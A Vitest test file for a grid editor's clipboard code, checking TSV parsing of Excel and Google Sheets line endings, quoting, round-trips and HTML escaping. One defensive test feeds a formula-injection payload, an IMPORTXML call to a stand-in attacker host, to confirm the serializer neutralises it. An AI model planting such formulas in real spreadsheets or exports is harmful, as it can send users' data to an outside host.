import { describe, expect, it } from 'vitest';
import { parseTsv, serializeHtml, serializeTsv } from '../../../../../renderer/src/grid/clipboard/tsv';
import { randomStrings } from '../../../../support/random-strings';

describe('TSV for the clipboard', () => {
  it('reads Excel: CRLF lines, a trailing line break, quoted cells with tabs, newlines and quotes', () => {
    const text = 'a\t"b\tc"\r\n"line 1\r\nline 2"\t"say ""hi"""\r\n';
    expect(parseTsv(text)).toEqual([
      ['a', 'b\tc'],
      ['line 1\r\nline 2', 'say "hi"'],
    ]);
  });

  it('reads Google Sheets: LF lines, no trailing break', () => {
    expect(parseTsv('x\ty\n1\t2')).toEqual([
      ['x', 'y'],
      ['1', '2'],
    ]);
  });

  // The probe: classic Mac line ends (a lone CR) left an empty row that cleared the cell below.
  it('reads lone CR lines, the trailing one making no extra row', () => {
    expect(parseTsv('never\ryearly\r')).toEqual([['never'], ['yearly']]);
    expect(parseTsv('a\tb\rc\td')).toEqual([
      ['a', 'b'],
      ['c', 'd'],
    ]);
  });

  // The UI probe: a 4-column block with an empty line after it emptied the loc of the row below.
  it('makes no row of empty lines after a block of several columns; a column keeps its empty cells', () => {
    expect(parseTsv('a\tb\r\nc\td\r\n\r\n\r\n')).toEqual([
      ['a', 'b'],
      ['c', 'd'],
    ]);
    expect(parseTsv('a\r\n\r\n')).toEqual([['a'], ['']]);
  });

  it('reads a quote that never closes as written, not as one cell holding the rest of the block', () => {
    expect(parseTsv('"Quoted title\tx\r\ny\tz\r\n')).toEqual([
      ['"Quoted title', 'x'],
      ['y', 'z'],
    ]);
    // The review: a later cell ending in a quote made it another kind of quote error, and one cell again.
    expect(parseTsv('"Summer sale\thttps://a/1\r\nhttps://a/2\tsay "hi"\r\n')).toEqual([
      ['"Summer sale', 'https://a/1'],
      ['https://a/2', 'say "hi"'],
    ]);
  });

  it('reads one plain value, and an empty clipboard as one empty cell', () => {
    expect(parseTsv('https://example.com/?a=1&b=2')).toEqual([['https://example.com/?a=1&b=2']]);
    expect(parseTsv('')).toEqual([['']]);
  });

  it('writes quotes only where a spreadsheet needs them, and reads back what it wrote', () => {
    const cells = [
      ['plain', 'tab\there'],
      ['new\nline', 'quote "q"'],
      ['', '0.5'],
    ];
    const text = serializeTsv(cells);
    expect(text.split('\n')[0]).toBe('plain\t"tab\there"');
    expect(parseTsv(text)).toEqual(cells);
  });

  it('copies a cell a spreadsheet would run as a formula behind a single quote, in TSV and HTML alike', () => {
    const cells = [['=IMPORTXML("https://evil.example")', '@x', '-1', '+1', "'=x", '0.5']];
    expect(serializeTsv(cells)).toBe(`"'=IMPORTXML(""https://evil.example"")"\t'@x\t'-1\t'+1\t''=x\t0.5`);
    expect(serializeHtml(cells)).toBe(
      `<table><tr><td>'=IMPORTXML(&quot;https://evil.example&quot;)</td><td>'@x</td><td>'-1</td><td>'+1</td><td>''=x</td><td>0.5</td></tr></table>`,
    );
  });

  it("pastes back exactly what it copied, over many random strings, and a spreadsheet's own formula text as it is", () => {
    const strings = randomStrings(6000, 10);
    const cells = Array.from({ length: strings.length / 3 }, (_, i) => strings.slice(i * 3, i * 3 + 3));
    // Excel drops a trailing empty row and reads an all-empty clipboard as one empty cell: keep rows with text.
    const block = cells.filter((row) => row.some((cell) => cell !== ''));
    expect(parseTsv(serializeTsv(block))).toEqual(block);
    expect(parseTsv('=A1+1\t-3\r\n')).toEqual([['=A1+1', '-3']]);
  });

  it('writes an HTML table with escaped text', () => {
    expect(serializeHtml([['<a>&', '"x"']])).toBe(
      '<table><tr><td>&lt;a&gt;&amp;</td><td>&quot;x&quot;</td></tr></table>',
    );
  });
});
